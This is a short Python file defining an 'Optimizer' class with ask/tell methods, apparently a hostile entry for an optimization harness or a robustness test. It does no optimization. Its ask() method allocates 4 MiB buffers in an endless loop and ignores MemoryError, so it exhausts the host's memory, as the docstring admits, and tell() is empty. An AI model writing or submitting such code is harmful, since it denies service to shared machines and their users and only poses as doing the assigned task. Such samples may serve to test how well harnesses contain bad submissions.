"""Takes all memory, and what it cannot get again and again."""

import random


class Optimizer:
    def __init__(self, space, seed, budget):
        self.space, self.rng = space, random.Random(seed)

    def ask(self):
        hoard = []
        while True:
            try:
                hoard.append(bytearray(2**22))
            except MemoryError:
                continue

    def tell(self, genotype, result):
        pass
